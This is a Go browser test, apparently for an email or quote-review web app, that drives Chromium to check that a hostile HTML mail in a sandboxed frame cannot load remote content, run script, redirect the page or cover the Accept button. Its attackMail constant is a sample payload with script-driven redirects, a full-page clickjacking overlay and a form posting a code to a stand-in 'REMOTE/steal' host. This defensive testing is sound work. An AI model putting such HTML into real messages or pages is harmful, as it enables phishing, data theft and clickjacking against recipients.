package console

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"ppamaild/sandbox/raced"
)

// attackMail reaches for the page around it and for another server.
const attackMail = `<base href="REMOTE/"><meta http-equiv="refresh" content="0;url=REMOTE/refresh">
<link rel="stylesheet" href="REMOTE/sheet"><style>@import url(REMOTE/import);
body { background: url(REMOTE/back); position: fixed; inset: 0; width: 9999px; height: 9999px; z-index: 99999; }
button { position: fixed; inset: 0; z-index: 99999; width: 9999px; height: 9999px; }</style>
<script>top.document.title = 'owned'; parent.location = 'REMOTE/script'; fetch('REMOTE/fetch');</script>
<img src="REMOTE/pixel" onerror="top.location='REMOTE/error'"><video src="REMOTE/video" autoplay></video>
<iframe src="REMOTE/frame"></iframe><object data="REMOTE/object"></object>
<form action="REMOTE/steal" method="post" target="_top"><input name="code" value="123456">
<button formaction="REMOTE/steal">Accept</button></form>`

// A hostile mail runs nothing, loads nothing, sends nothing, and covers nothing but its frame.
func TestAHostileMailInChromium_Slow(t *testing.T) {
	t.Parallel()
	var reached atomic.Pointer[string]
	remote := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		path := r.URL.Path
		reached.Store(&path)
	}))
	t.Cleanup(remote.Close)
	b := newOffice(t).browser()
	b.desk.one.Draft.HTML = strings.ReplaceAll(attackMail, "REMOTE", remote.URL)
	b.signsIn(lee)
	options := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath("chromium"), chromedp.NoSandbox)
	ctx, end := chromedp.NewExecAllocator(context.WithoutCancel(t.Context()), options...)
	t.Cleanup(end)
	ctx, end = chromedp.NewContext(ctx)
	t.Cleanup(end)
	ctx, end = context.WithTimeout(ctx, raced.Slowdown*3*time.Minute)
	t.Cleanup(end)
	cookie := b.client.Jar.Cookies(mustURL(t, b.server.URL))[0]
	var title, address, top, inFrame string
	must(t, chromedp.Run(ctx,
		network.SetCookie(cookie.Name, cookie.Value).WithURL(b.server.URL),
		chromedp.EmulateViewport(1200, 900),
		chromedp.Navigate(b.server.URL+"/r/Q-7F3K2M/2"), // waits for the frame, too
		chromedp.Click("iframe.mail", chromedp.ByQuery), // the button covers the frame
		chromedp.Title(&title), chromedp.Location(&address),
		chromedp.Evaluate(`(() => {
			const at = document.getElementById('accept').getBoundingClientRect();
			return document.elementFromPoint(at.x + 5, at.y + 5).id;
		})()`, &top),
		chromedp.Evaluate(`String(document.querySelector('iframe.mail').contentDocument)`, &inFrame),
	))
	if path := reached.Load(); path != nil {
		t.Errorf("the mail reached %s of another server", *path)
	}
	if !strings.HasPrefix(title, "Quote for Alice") || address != b.server.URL+"/r/Q-7F3K2M/2" {
		t.Errorf("the page is %q at %s", title, address)
	}
	if top != "accept" || inFrame != "null" {
		t.Errorf("%q is over the button; the page sees %s in the frame", top, inFrame)
	}
	must(t, chromedp.Run(ctx, chromedp.Click("#accept", chromedp.ByQuery),
		chromedp.WaitVisible(".done", chromedp.ByQuery)))
	if b.decisions() != 1 {
		t.Errorf("%d decisions", b.decisions())
	}
}
